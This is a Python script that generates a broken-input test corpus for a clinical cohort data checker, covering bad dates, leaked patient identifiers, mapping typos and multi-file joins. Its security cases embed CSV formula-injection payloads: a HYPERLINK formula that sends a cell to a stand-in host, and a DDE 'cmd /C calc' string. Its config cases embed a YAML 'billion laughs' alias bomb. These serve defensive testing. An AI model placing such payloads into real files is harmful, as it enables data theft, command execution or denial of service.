    spec("invalid_yaml", 2, None, ["not valid YAML"])

    d = case("unknown_mapping_key")  # 'delimeter' typo
    write(d, lines)
    mapping("unknown_mapping_key", "JS01", "data.csv", delimeter=";")
    spec("unknown_mapping_key", 2, None, ["unknown key 'delimeter' (did you mean 'delimiter'?)"])

    d = case("header_row_zero")
    write(d, lines)
    mapping("header_row_zero", "JS01", "data.csv", header_row=0)
    spec("header_row_zero", 2, None, ["header_row", "less than the minimum of 1"])

    # the same mapping twice, two mappings with the same centre code: study-config cases
    cfg = yaml.safe_load((ROOT / "config/config.yaml").read_text("utf-8"))
    d = case("mapping_listed_twice")
    write(d, lines)
    mapping("mapping_listed_twice", "JS01", "data.csv")
    cfg["centres"] = ["tests/corpus/mapping_listed_twice/centre.yaml"] * 2
    (d / "config.yaml").write_text(yaml.safe_dump(cfg, sort_keys=False), "utf-8")
    spec("mapping_listed_twice", 2, None,
         ["centres: tests/corpus/mapping_listed_twice/centre.yaml is listed twice"], config=True)

    d = case("same_centre_code")
    write(d, lines)
    mapping("same_centre_code", "JS01", "data.csv")
    m = yaml.safe_load((d / "centre.yaml").read_text("utf-8"))
    write_mapping("same_centre_code", m, "centre_copy.yaml")
    cfg["centres"] = ["tests/corpus/same_centre_code/centre.yaml",
                      "tests/corpus/same_centre_code/centre_copy.yaml"]
    (d / "config.yaml").write_text(yaml.safe_dump(cfg, sort_keys=False), "utf-8")
    spec("same_centre_code", 2, None, ["both say 'centre: JS01'"], config=True)


# --------------------------------------------------------------------------------------------
def security_cases(lines, header) -> None:
    d = case("formula_injection")  # cells that a spreadsheet would run as formulas
    rows = with_comment(lines)
    rows[2][header.index("Histology")] = '=HYPERLINK("http://x.example/?"&A1,"click")'
    rows[3][header.index("Side")] = "-2+3+cmd|' /C calc'!A0"
    rows[4][header.index("Regimen")] = "@SUM(1+1)"
    rows[5][-1] = "=1+1"
    write(d, join(rows))
    mapping("formula_injection", "JS01", "data.csv")
    spec("formula_injection", 1, "unknown_code",
         ["row 3, column 'Histology'", "row 4, column 'Side'", "row 5, column 'Regimen'"],
         csv_injection=True)

    d = case("negative_number")  # a negative percentage stays a number in the problems table
    rows = split(lines)
    rows[3][header.index("ER %")] = "-5"
    write(d, join(rows))
    mapping("negative_number", "JS01", "data.csv")
    spec("negative_number", 0, "out_of_range", ["row 4, column 'ER %', value '-5'"],
         rows=12, quarantined=1, csv_injection=True)

    d = case("id_in_code_column")  # a patient ID typed into the histology column
    rows = split(lines)
    rows[3][header.index("Histology")] = rows[5][0]
    write(d, join(rows))
    mapping("id_in_code_column", "JS01", "data.csv")
    spec("id_in_code_column", 1, "unknown_code",
         ["row 4, column 'Histology', value [identifier]",
          "the value is one of this file's patient IDs"], forbid=[rows[5][0]])

    d = case("date_in_code_column")  # a birth date typed into the side column
    rows = split(lines)
    rows[6][header.index("Side")] = rows[6][header.index("Date of birth")]
    write(d, join(rows))
    mapping("date_in_code_column", "JS01", "data.csv")
    spec("date_in_code_column", 1, "unknown_code",
         ["row 7, column 'Side', value [shape: dd/dd/dddd]", "the value looks like a date"],
         forbid_files=[rows[6][header.index("Side")]])


# --------------------------------------------------------------------------------------------
def message_cases(lines, header) -> None:
    """Leaks and messages (issue 18): values shown by their shape in results/ and logs/, what is
    wrong said without the value. `forbid_files`: strings that must not reach the problems
    table or a stage's log (`her2cohort check` at the user's desk may show codes); `forbid`:
    strings that no output at all may hold (identifiers)."""
    col = header.index

    d = case("name_in_code_column")  # a patient's name typed into the histology column
    rows = split(lines)
    rows[3][col("Histology")] = "Wang Fang"
    write(d, join(rows))
    mapping("name_in_code_column", "JS01", "data.csv")
    spec("name_in_code_column", 1, "unknown_code",
         ["row 4, column 'Histology', value 'Wang Fang'", "no mapping for 'histology'"],
         forbid_files=["Wang Fang", "Wang", "Fang"],
         files=["[shape: Llll Llll]"])

    d = case("cjk_name_in_code_column")  # a name in Chinese: not spelt out character by character
    rows = split(lines)
    rows[5][col("Side")] = "\u738b\u82b3"
    write(d, join(rows))
    mapping("cjk_name_in_code_column", "JS01", "data.csv")
    spec("cjk_name_in_code_column", 1, "unknown_code",
         ["row 6, column 'Side'", "no mapping for 'laterality'"],
         forbid=["U+738B", "CJK UNIFIED"], forbid_files=["\u738b", "\u82b3"],
         files=["[shape: xx]"])

    d = case("short_mrn_in_histology")  # 4-digit hospital numbers; one typed into Histology
    rows = split(lines)
    for k, r in enumerate(rows[1:], start=1):
        r[0] = f"{4810 + 7 * k}"
    rows[3][col("Histology")] = rows[9][0]
    rows[5][col("Histology")] = "7305"  # a 4-digit number that is no ID of this file
    rows[7][col("Tumour size (mm)")] = rows[2][0]  # and an ID in a number column
    write(d, join(rows))
    mapping("short_mrn_in_histology", "JS01", "data.csv")
    spec("short_mrn_in_histology", 1, "unknown_code",
         ["row 4, column 'Histology', value [identifier]",
          "the value is one of this file's patient IDs",
          "row 6, column 'Histology', value [shape: dddd]", "looks like a hospital number",
          "row 8, column 'Tumour size (mm)', value [identifier]",
          "not a plausible number for 'tumour_size_mm': the value is one of this file's "
          "patient IDs"],
         forbid=[rows[9][0], "7305", rows[2][0]])

    d = case("phone_in_free_text")  # a phone number written into the regimen column
    rows = split(lines)
    rows[4][col("Regimen")] = "call 0151 2345 678"
    write(d, join(rows))
    mapping("phone_in_free_text", "JS01", "data.csv")
    spec("phone_in_free_text", 1, "unknown_code",
         ["row 5, column 'Regimen', value [shape: llll dddd dddd ddd]"],
         forbid=["0151 2345 678", "2345"])

    d = case("phone_in_unmapped_comment")  # free text in a column no field reads: never echoed
    rows = with_comment(lines)
    rows[2][-1] = "Wang Fang, daughter 0151 2345 678, lives at 12 Hill Rd"
    write(d, join(rows))
    mapping("phone_in_unmapped_comment", "JS01", "data.csv")
    spec("phone_in_unmapped_comment", 0, "column_unmapped",
         ["column 'Comment'", "is not mapped to any field and is ignored"],
         forbid=["Wang", "0151", "2345", "Hill Rd"], rows=12, quarantined=None)

    d = case("iso_date_in_grade_column")  # an ISO date typed into the grade column
    rows = split(lines)
    rows[8][col("Grade")] = "1961-03-12"
    write(d, join(rows))
    mapping("iso_date_in_grade_column", "JS01", "data.csv")
    spec("iso_date_in_grade_column", 1, "unknown_code",
         ["row 9, column 'Grade', value [shape: dddd-dd-dd]", "the value looks like a date"],
         forbid=["1961-03-12", "1961"], files=["[shape: dddd-dd-dd]"])

    d = case("short_code_shown")  # a short unmapped code stays visible everywhere
    rows = split(lines)
    rows[6][col("cT")] = "cTx"
    write(d, join(rows))
    mapping("short_code_shown", "JS01", "data.csv")
    spec("short_code_shown", 1, "unknown_code", ["row 7, column 'cT', value 'cTx'"],
         files=["cTx"])

    d = case("range_values_shown")  # numbers out of range and the ranges are shown, never redacted
    rows = split(lines)
    rows[2][col("Ki67 %")] = "130"
    rows[4][col("HER2 copies/cell")] = "0,05"
    write(d, join(rows))
    mapping("range_values_shown", "JS01", "data.csv")
    spec("range_values_shown", 0, "out_of_range",
         ["row 3, column 'Ki67 %', value '130'", "Ki-67 index 130% is outside the plausible "
          "range 0-100%", "row 5, column 'HER2 copies/cell', value '0.05'",
          "outside the plausible range 0.1-100"],
         files=["130", "0.1-100", "0-100%"], rows=12, quarantined=2)

    d = case("impossible_date")  # 30 February
    rows = split(lines)
    rows[2][col("Surgery date")] = "30/02/2013"
    write(d, join(rows))
    mapping("impossible_date", "JS01", "data.csv")
    spec("impossible_date", 1, "bad_date",
         ["row 3, column 'Surgery date', value [shape: dd/dd/dddd]",
          "'dd/dd/dddd' is not a real date for 'surgery_date' (day 30 of month 02?)"],
         forbid=["30/02/2013"], files=["day 30 of month 02"])

    d = case("na_marker_undeclared")  # 'n/a' written in cells; the mapping's missing: is ['']
    rows = split(lines)
    rows[3][col("Surgery date")] = "n/a"
    rows[5][col("Grade")] = "N/A"
    rows[7][col("Ki67 %")] = "n/a"
    write(d, join(rows))
    mapping("na_marker_undeclared", "JS01", "data.csv")
    spec("na_marker_undeclared", 1, "bad_date",
         ["row 4, column 'Surgery date', value 'n/a'",
          "looks like a missing-value marker that the mapping does not declare",
          "add it under 'missing:'", "row 6, column 'Grade', value 'N/A'",
          "row 8, column 'Ki67 %', value 'n/a'"], files=["'n/a'", "n/a"])

    d = case("excel_serial_in_date_column")  # a date cell exported as its day count
    rows = split(lines)
    rows[2][col("Diagnosis date")] = "41240"
    rows[6][col("NAT start")] = "41275.5"
    write(d, join(rows))
    mapping("excel_serial_in_date_column", "JS01", "data.csv")
    spec("excel_serial_in_date_column", 1, "bad_date",
         ["row 3, column 'Diagnosis date', value [shape: ddddd]",
          "'ddddd' is a number, not a date, for 'diagnosis_date': read as an Excel serial date",
          "set 'date_format: excel_serial'", "value [shape: ddddd.d]"],
         forbid=["41240", "41275"])

    d = case("sentinel_equals_valid_value")  # ER 0 declared 'not evaluable'; 0% is a real value
    write(d, lines)
    mapping("sentinel_equals_valid_value", "JS01", "data.csv",
            sentinels={"er_pct": {"0": "not evaluable"}})
    spec("sentinel_equals_valid_value", 0, "sentinel_ambiguous",
         ["the sentinel '0' (not evaluable) is also a valid value of 'er_pct'",
          "plausible range 0-100%", "x sentinel_ambiguous [warn]"], rows=12, quarantined=None)

    d = case("months_given_in_days")  # DFS time declared in months, written in days
    rows = split(lines)
    rows[0] += ["DFS time", "DFS event"]
    import datetime as dt

    def day(v):
        return dt.datetime.strptime(v, "%d/%m/%Y").date()

    for r in rows[1:]:
        r += [str((day(r[col("Last follow-up")]) - day(r[col("Surgery date")])).days),
              "1" if r[col("Recurrence date")] else "0"]
    write(d, join(rows))
    m = base_mapping("JS01")
    mapping("months_given_in_days", "JS01", "data.csv",
            columns={**m["columns"], "dfs_time": "DFS time", "dfs_event": "DFS event"},
            values={**m["values"], "dfs_event": {"1": "event", "0": "censored"}},
            units={**m["units"], "dfs_time": "months"})
    spec("months_given_in_days", 0, "unit_suspect",
         ["'dfs_time' is declared in months, but its values look like days",
          "times the median time from NST start to last contact",
          "set 'units: {dfs_time: days}'"])

    d = case("xlsx_zero_bytes")  # an .xlsx of 0 bytes (a failed copy)
    (d / "data.xlsx").write_bytes(b"")
    mapping("xlsx_zero_bytes", "JS05", "data.xlsx")
    spec("xlsx_zero_bytes", 1, "file_empty",
         ["the file is empty (0 bytes), not an .xlsx workbook"])

    d = case("xlsx_corrupt_not_zip")  # bytes that are neither a zip archive nor text
    import random

    rnd = random.Random(18)
    (d / "data.xlsx").write_bytes(bytes(rnd.randrange(256) for _ in range(3000)))
    mapping("xlsx_corrupt_not_zip", "JS05", "data.xlsx")
    spec("xlsx_corrupt_not_zip", 1, "file_parse",
         ["the file is not an .xlsx workbook: it does not start with the bytes PK",
          "damaged"])

    d = case("xlsx_named_csv_fixed")  # a workbook under a .csv name, with format: xlsx
    wb, _ = js05_book()
    save(wb, d / "data.csv")
    mapping("xlsx_named_csv_fixed", "JS05", "data.csv")
    spec("xlsx_named_csv_fixed", 0, None, ["12 records read"], rows=12, quarantined=None)


# --------------------------------------------------------------------------------------------
def grouped_message_cases(lines, header) -> None:
    """Messages of issue 17: a column failing one rule on many rows is one line (count, first
    rows, an example shape, the date format that reads the values); "did you mean" for a code
    close to a level."""
    import re

    d = case("wrong_date_format")  # the export writes ISO dates; the mapping says %d/%m/%Y
    iso = [lines[0]] + [re.sub(r"\b(\d\d)/(\d\d)/(\d{4})\b", r"\3-\2-\1", ln)
                        for ln in lines[1:]]
    write(d, iso)
    mapping("wrong_date_format", "JS01", "data.csv")
    spec("wrong_date_format", 1, "bad_date",
         ["column 'Date of birth': 12 rows (rows 2, 3, 4, 5, 6 and 7 more); values like "
          "[shape: dddd-dd-dd]",
          "66 cell(s) in 7 column(s) do not read with the mapping's date_format; dates look "
          "like dddd-dd-dd: try date_format '%Y-%m-%d' (it reads 66 of 66)",
          "Every row of the groups above is listed in a problems table, which 'her2cohort "
          "check --problems FILE' writes"],
         files=["[shape: dddd-dd-dd]", "try date_format '%Y-%m-%d'"])

    d = case("code_typo")  # a misspelt code and a code in another case: the closest level
    rows = split(lines)
    rows[2][header.index("Menopause")] = "postmenopausl"
    rows[4][header.index("Side")] = "Left"
    write(d, join(rows))
    mapping("code_typo", "JS01", "data.csv")
    spec("code_typo", 1, "unknown_code",
         ["row 3, column 'Menopause', value 'postmenopausl': value has no mapping for "
          "'menopausal_status' (did you mean 'postmenopausal'?)",
          "row 5, column 'Side', value 'Left': value has no mapping for 'laterality' (did you "
          "mean 'left'?)"],
         forbid_files=["postmenopausl"],
         files=["(did you mean 'postmenopausal'?)", "(did you mean 'left'?)"])


# --------------------------------------------------------------------------------------------
def config_cases(lines) -> None:
    """Configuration mistakes caught before any rule (exit 2): misspelt keys and invalid values
    in the config and in a sensitivity variant's overrides, a variant that changes nothing,
    YAML aliases (a "billion laughs" expands a few lines into gigabytes)."""
    base = yaml.safe_load((ROOT / "config/config.yaml").read_text("utf-8"))

    def config_case(name: str, cfg: dict | None = None, text: str | None = None) -> Path:
        d = case(name)
        write(d, lines)
        mapping(name, "JS01", "data.csv")
        if cfg is not None:
            cfg = {**cfg, "centres": [f"tests/corpus/{name}/centre.yaml"]}
            text = yaml.safe_dump(cfg, sort_keys=False)
        (d / "config.yaml").write_text(text, "utf-8")
        return d

    def with_variant(overrides: dict) -> dict:
        cfg = yaml.safe_load(yaml.safe_dump(base))
        cfg["sensitivity"]["variants"] = {"v": {"description": "a variant",
                                                "overrides": overrides}}
        return cfg

    config_case("variant_misspelt_key", with_variant({"pcr": {"definiton": "ypT0_ypN0"}}))
    spec("variant_misspelt_key", 2, None,
         ["sensitivity/variants/v/overrides (merged into the config): pcr: unknown key "
          "'definiton' (did you mean 'definition'?)"], config=True)
    config_case("variant_invalid_value", with_variant({"her2": {"guideline": "2016"}}))
    spec("variant_invalid_value", 2, None,
         ["sensitivity/variants/v/overrides (merged into the config): her2/guideline: '2016' "
          "is not one of the choices: 2018, 2013"], config=True)
    config_case("variant_changes_nothing", with_variant({"tables": {"page": "Letter"}}))
    spec("variant_changes_nothing", 0, None,
         ["warning: sensitivity/variants/v: its overrides change nothing the sensitivity "
          "estimates read, so its column repeats the main analysis"], config=True, rows=12)
    cfg = yaml.safe_load(yaml.safe_dump(base))
    cfg["tabel1"] = cfg.pop("table1")
    cfg["survival"]["ci_type"] = "loglog"
    config_case("config_misspelt_keys", cfg)
    spec("config_misspelt_keys", 2, None,
         ["unknown key 'tabel1' (did you mean 'table1'?)",
          "survival/ci_type: 'loglog' is not one of the choices: log, log-log, plain (did you "
          "mean 'log-log'?)"], config=True)
    cfg = yaml.safe_load(yaml.safe_dump(base))
    cfg["pcr"]["models"]["covariates"][3] = "ki67_grp"
    config_case("config_misspelt_field", cfg)
    spec("config_misspelt_field", 2, None,
         ["'ki67_grp' is no canonical field or derived variable (did you mean 'ki67_group'?)"],
         config=True)
    bomb = "".join(f"{a}: &{a} [{', '.join([f'*{p}'] * 9 if p else ['lol'] * 9)}]\n"
                   for p, a in zip(["", *"abcdefgh"], "abcdefghi"))
    config_case("config_alias_bomb", text=bomb)
    spec("config_alias_bomb", 2, None,
         ["line 2: YAML alias '*a' is not allowed in a configuration or centre mapping"],
         config=True)
    d = case("mapping_alias_bomb")
    write(d, lines)
    mapping("mapping_alias_bomb", "JS01", "data.csv")
    with open(d / "centre.yaml", "a", encoding="utf-8") as fh:
        fh.write("# a billion laughs\n" + bomb.replace(": &", ": &m").replace("*", "*m"))
    spec("mapping_alias_bomb", 2, None,
         ["YAML alias '*ma' is not allowed in a configuration or centre mapping"])


# --------------------------------------------------------------------------------------------
# centres with several files: JS01 split into a baseline file and an outcomes file joined on
# the patient ID (the follow-up columns and Ki-67 are in the outcomes file)
OUTCOMES = ["Last follow-up", "Recurrence date", "Recurrence site", "Death date", "Status",
            "Ki67 %"]


def two_files(d: Path, rows: list[list[str]], header: list[str], extra: dict | None = None,
              out_rows: list[list[str]] | None = None, out_sep: str = ",") -> list[list[str]]:
    """Write baseline.csv (';') and outcomes.csv (``out_sep``) from JS01 rows; ``extra``:
    more outcome columns (name -> one value per data row); returns the outcome rows."""
    idx = [header.index(c) for c in OUTCOMES]
    base = [[c for k, c in enumerate(r) if k not in idx] for r in rows]
    out = out_rows if out_rows is not None else [[r[0], *(r[k] for k in idx)] for r in rows]
    for name, values in (extra or {}).items():
        out[0].append(name)
        for r, v in zip(out[1:], values):
            r.append(v)
    write(d, join(base), name="baseline.csv")
    write(d, join(out, out_sep), name="outcomes.csv")
    return out


def two_file_mapping(name: str, outcomes: dict | None = None, base: dict | None = None,
                     **changes) -> None:
    m = base_mapping("JS01")
    m.pop("file")
    m.pop("format")
    m["files"] = [{"name": "baseline", "file": f"tests/corpus/{name}/baseline.csv",
                   **(base or {})},
                  {k: v for k, v in {"name": "outcomes",
                                     "file": f"tests/corpus/{name}/outcomes.csv",
                                     "delimiter": ",", **(outcomes or {})}.items()
                   if v is not None}]
    m["allow_outside_data_dirs"] = True
    for k, v in changes.items():
        if v is None:
            m.pop(k, None)
        else:
            m[k] = v
    write_mapping(name, m)


def numeric_ids(rows: list[list[str]]) -> list[list[str]]:
    """IDs as digits only ('JS1-504524' -> '504524'), as many hospital systems write them."""
    return [rows[0]] + [[r[0].split("-")[-1], *r[1:]] for r in rows[1:]]


def two_file_cases(lines, header) -> None:
    d = case("two_file_blank_ids")  # blank IDs in both files: never joined to each other
    rows = split(lines)
    rows[3][0] = ""
    rows[7][0] = "  "
    out = [[r[0], *(r[header.index(c)] for c in OUTCOMES)] for r in rows]
    out[5][0] = ""
    two_files(d, rows, header, out_rows=out)
    two_file_mapping("two_file_blank_ids")
    spec("two_file_blank_ids", 0, "blank_id",
         ["tests/corpus/two_file_blank_ids/baseline.csv, row 4, column 'Patient ID'",
          "tests/corpus/two_file_blank_ids/baseline.csv, row 8, column 'Patient ID'",
          "tests/corpus/two_file_blank_ids/outcomes.csv, row 6, column 'Patient ID'",
          "cannot be joined to the rows of the centre's other files",
          "15 records read; 6 would be quarantined"], rows=15)

    d = case("two_file_blank_ids_marker")  # 'NA' in the ID column (a missing marker) is blank
    rows = split(lines)
    rows[2][0] = "NA"
    two_files(d, rows, header)
    two_file_mapping("two_file_blank_ids_marker", missing=["", "NA"])
    spec("two_file_blank_ids_marker", 0, "blank_id",
         ["baseline.csv, row 3, column 'Patient ID'", "is blank",
          "13 records read; 2 would be quarantined"], rows=13)

    d = case("two_file_leading_zeros")  # '00504524' in outcomes, '504524' in baseline
    rows = numeric_ids(split(lines))
    out = [[r[0], *(r[header.index(c)] for c in OUTCOMES)] for r in rows]
    for r in out[2:5]:
        r[0] = "00" + r[0]
    two_files(d, rows, header, out_rows=out)
    two_file_mapping("two_file_leading_zeros")
    spec("two_file_leading_zeros", 0, "id_variants",
         ["3 patient ID(s) differ only by leading zeros",
          "an ID shaped dddddd in tests/corpus/two_file_leading_zeros/baseline.csv row 3",
          "one shaped dddddddd in tests/corpus/two_file_leading_zeros/outcomes.csv row 3",
          "set id_normalise: {leading_zeros: strip}"],
         rows=15, forbid=[out[2][0], out[3][0]])

    d = case("two_file_leading_zeros_fixed")  # the same with the rule set: joined
    two_files(d, rows, header, out_rows=[list(r) for r in out])
    two_file_mapping("two_file_leading_zeros_fixed", id_normalise={"leading_zeros": "strip"})
    spec("two_file_leading_zeros_fixed", 0, None, ["12 records read; 0 would be quarantined"],
         rows=12, forbid=["id_variants", "unmatched_record"])

    d = case("two_file_id_case")  # 'js1-504524' in outcomes, 'JS1-504524' in baseline
    rows = split(lines)
    out = [[r[0], *(r[header.index(c)] for c in OUTCOMES)] for r in rows]
    out[6][0] = out[6][0].lower()
    two_files(d, rows, header, out_rows=out)
    two_file_mapping("two_file_id_case")
    spec("two_file_id_case", 0, "id_variants",
         ["1 patient ID(s) differ only by upper/lower case", "shaped aad-dddddd",
          "set id_normalise: {case: upper}"], rows=13, forbid=[out[6][0]])

    d = case("two_file_id_case_in_one_file")  # two rows of each file differ only by case
    rows = split(lines)
    rows[9][0] = rows[2][0].lower()
    two_files(d, rows, header)
    two_file_mapping("two_file_id_case_in_one_file")
    spec("two_file_id_case_in_one_file", 0, "id_variants",
         ["1 patient ID(s) differ only by upper/lower case",
          "tests/corpus/two_file_id_case_in_one_file/baseline.csv row 3 and one shaped "
          "aad-dddddd in tests/corpus/two_file_id_case_in_one_file/baseline.csv row 10"],
         rows=12, forbid=[rows[9][0]])

    d = case("two_file_id_case_normalised")  # ... with case: upper they are one patient
    two_files(d, rows, header)
    two_file_mapping("two_file_id_case_normalised", id_normalise={"case": "upper"})
    spec("two_file_id_case_normalised", 0, "ambiguous_join",
         ["outcomes.csv has 2 rows for this patient (rows 3, 10)",
          "12 records read; 2 would be quarantined"], rows=12, forbid=["id_variants"])

    d = case("two_file_decimal_per_file")  # Ki-67 written with '.', the baseline with ','
    rows = split(lines)
    for r in rows[1:6]:
        r[header.index("Ki67 %")] += ".5"
    two_files(d, rows, header)
    two_file_mapping("two_file_decimal_per_file", outcomes={"decimal": "."})
    spec("two_file_decimal_per_file", 0, None, ["12 records read; 0 would be quarantined"],
         rows=12, forbid=["bad_number"])

    d = case("two_file_decimal_not_per_file")  # the same without decimal: '.' in outcomes
    rows = split(lines)
    rows[4][header.index("Ki67 %")] = "12.5"
    two_files(d, rows, header)
    two_file_mapping("two_file_decimal_not_per_file")
    spec("two_file_decimal_not_per_file", 1, "bad_number",
         ["tests/corpus/two_file_decimal_not_per_file/outcomes.csv, row 5, column 'Ki67 %', "
          "value '12.5'", "the mark read for tests/corpus/two_file_decimal_not_per_file/"
          "outcomes.csv; if it differs, set decimal: under the files: entry 'outcomes'"])

    d = case("two_file_header_row")  # a title line above the outcomes header only
    rows = split(lines)
    out = two_files(d, rows, header)
    write(d, ["Outcomes export"] + join(out, ","), name="outcomes.csv")
    two_file_mapping("two_file_header_row")
    spec("two_file_header_row", 1, "header",
         ["set 'header_row: 2' under the files: entry 'outcomes' "
          "(tests/corpus/two_file_header_row/outcomes.csv)", "for that file only"])

    d = case("two_file_header_row_fixed")
    write(d, ["Outcomes export"] + join(out, ","), name="outcomes.csv")
    idx = [header.index(c) for c in OUTCOMES]
    write(d, join([[c for k, c in enumerate(r) if k not in idx] for r in rows]),
          name="baseline.csv")
    two_file_mapping("two_file_header_row_fixed", outcomes={"header_row": 2})
    spec("two_file_header_row_fixed", 0, None, ["12 records read"], rows=12)

    d = case("two_file_listed_twice")  # the same file twice under files:
    two_files(d, split(lines), header)
    two_file_mapping("two_file_listed_twice")
    m = yaml.safe_load((d / "centre.yaml").read_text("utf-8"))
    m["files"][1] = {**m["files"][0], "name": "again"}
    write_mapping("two_file_listed_twice", m)
    spec("two_file_listed_twice", 2, None,
         ["files: entries 1 and 2 both read tests/corpus/two_file_listed_twice/baseline.csv; "
          "list each file once"], forbid=["is in baseline and again"])

    d = case("two_file_same_name")  # two entries named alike: 'name:column' is ambiguous
    two_files(d, split(lines), header)
    two_file_mapping("two_file_same_name", outcomes={"name": "baseline"})
    spec("two_file_same_name", 2, None, ["files: entries 1 and 2 have the same name "
                                         "'baseline'"])

    d = case("two_file_provenance")  # problems of outcome cells name the outcomes file
    rows = split(lines)
    rows[2][header.index("Ki67 %")] = "150"
    rows[5][header.index("Last follow-up")] = "01/01/2000"
    out = [[r[0], *(r[header.index(c)] for c in OUTCOMES)] for r in rows]
    out = [out[0], *reversed(out[1:])]  # another row order than the baseline file
    two_files(d, rows, header, out_rows=out, extra={"DFS_days": [""] * 9 + ["-5", "", ""]})
    two_file_mapping("two_file_provenance", units={"tumour_size_mm": "mm", "dfs_time": "days"},
                     columns={**base_mapping("JS01")["columns"], "dfs_time": "DFS_days"})
    spec("two_file_provenance", 0, "out_of_range",
         ["tests/corpus/two_file_provenance/outcomes.csv, row 12, column 'Ki67 %', value '150'",
          "tests/corpus/two_file_provenance/outcomes.csv, row 9, column 'Last follow-up'",
          "tests/corpus/two_file_provenance/outcomes.csv, row 11, column 'DFS_days', "
          "value '-5'", "(written -5 in the file)"],
         rows=12, forbid=["-0.164271'"])

    d = case("two_file_excel_dates")  # outcomes as a workbook with date cells
    rows = split(lines)
    out_book(d, rows, header)
    two_file_mapping("two_file_excel_dates",
                     outcomes={"file": "tests/corpus/two_file_excel_dates/outcomes.xlsx",
                               "format": "xlsx", "sheet": "outcomes", "delimiter": None})
    spec("two_file_excel_dates", 1, "bad_date",
         ["outcomes.xlsx, column 'Last follow-up': 12 rows (rows 2, 3, 4, 5, 6 and 7 more)",
          "the cell is an Excel date cell: set date_format: excel under the files: entry "
          "'outcomes'"])

    d = case("two_file_excel_dates_fixed")
    out_book(d, rows, header)
    two_file_mapping("two_file_excel_dates_fixed",
                     outcomes={"file": "tests/corpus/two_file_excel_dates_fixed/outcomes.xlsx",
                               "format": "xlsx", "sheet": "outcomes", "date_format": "excel",
                               "delimiter": None})
    spec("two_file_excel_dates_fixed", 0, None, ["12 records read"], rows=12)

    d = case("two_file_dfs_vs_dates")  # DFS as days + status beside the dates; two disagree
    rows = split(lines)
    days, events = dfs_as_recorded(rows, header)
    timed = [k for k, e in enumerate(events) if e == "0"]
    days[timed[0]] = str(int(days[timed[0]]) + 200)  # 200 days too long
    events[timed[1]] = "1"  # an event the dates do not have
    two_files(d, rows, header, extra={"DFS_days": days, "DFS_event": events})
    two_file_mapping("two_file_dfs_vs_dates", units={"tumour_size_mm": "mm",
                                                     "dfs_time": "days"},
                     columns={**base_mapping("JS01")["columns"], "dfs_time": "DFS_days",
                              "dfs_event": "DFS_event"},
                     values={**base_mapping("JS01")["values"],
                             "dfs_event": {"1": "event", "0": "censored"}})
    spec("two_file_dfs_vs_dates", 0, "time_inconsistent",
         ["tests/corpus/two_file_dfs_vs_dates/outcomes.csv, row 2, column 'DFS_days', value "
          "'1741': DFS recorded as 57.2 months (1741 days), censored, but the dates give 50.6 "
          "months (1541 days) from surgery",
          "tests/corpus/two_file_dfs_vs_dates/outcomes.csv, row 3, column 'DFS_days'",
          "event, but the dates give", "times within 31 days", "2 x time_inconsistent"],
         rows=12)


def dfs_as_recorded(rows: list[list[str]], header: list[str]) -> tuple[list[str], list[str]]:
    """DFS in days from surgery and its status as the dates give them (the default study's
    events: any recurrence or death), for each data row (blank where a date is missing)."""
    import datetime as dt

    def d(v):
        return dt.datetime.strptime(v, "%d/%m/%Y").date() if v else None

    days, events = [], []
    for r in rows[1:]:
        t0 = d(r[header.index("Surgery date")])
        ev = [x for x in (d(r[header.index("Recurrence date")]), d(r[header.index("Death date")]))
              if x]
        end = min(ev) if ev else d(r[header.index("Last follow-up")])
        ok = t0 is not None and end is not None
        days.append(str((end - t0).days) if ok else "")
        events.append(("1" if ev else "0") if ok else "")
    return days, events


def out_book(d: Path, rows: list[list[str]], header: list[str]) -> None:
    """baseline.csv and an outcomes workbook whose dates are date cells."""
    import datetime as dt

    from openpyxl import Workbook

    idx = [header.index(c) for c in OUTCOMES]
    write(d, join([[c for k, c in enumerate(r) if k not in idx] for r in rows]),
          name="baseline.csv")
    wb = Workbook()
    ws = wb.active
    ws.title = "outcomes"
    ws.append(["Patient ID", *OUTCOMES])
    for r in rows[1:]:
        cells = [r[0]]
        for c in OUTCOMES:
            v = r[header.index(c)]
            if c in ("Last follow-up", "Recurrence date", "Death date") and v:
                v = dt.datetime.strptime(v, "%d/%m/%Y")
            elif c == "Ki67 %" and v:
                v = int(v)
            cells.append(v or None)
        ws.append(cells)
    save(wb, d / "outcomes.xlsx")


def main() -> None:
    lines = js01_lines()
    header = lines[0].split(";")
    original_cases(lines, header)
    row_loss_cases(lines)
    excel_cases()
    csv_header_cases(lines, header)
    encoding_cases(lines, header)
    mapping_cases(lines)
    security_cases(lines, header)
    config_cases(lines)
    message_cases(lines, header)
    grouped_message_cases(lines, header)
    two_file_cases(lines, header)
    head = (
        "# Broken-input corpus, written by make_corpus.py (edit SPECS there, not here).\n"
        "# `her2cohort check --centre tests/corpus/<case>/centre.yaml` (or `--config\n"
        "# tests/corpus/<case>/config.yaml` where `config: true`) must exit with `exit` and\n"
        "# print every fragment in `messages`; `rule` must be among the rules counted. `rows`\n"
        "# is the number of data rows in the file; where the run does not stop, rows = passing\n"
        "# + quarantined (`quarantined`, when given). No output may hold a date or a value in\n"
        "# `forbid`; with `csv_injection`, the problems table written to results/ must hold no\n"
        "# cell a spreadsheet would run as a formula. The problems table and the stage log\n"
        "# (results/ and logs/) must also hold no value in `forbid_files` (the console of\n"
        "# `check` may show codes) and must hold every fragment in `files`.\n")
    (HERE / "cases.yaml").write_text(
        head + yaml.safe_dump(SPECS, allow_unicode=True, sort_keys=True, width=100), "utf-8")
    print(f"{len(SPECS)} cases written to {HERE}")


if __name__ == "__main__":
    main()
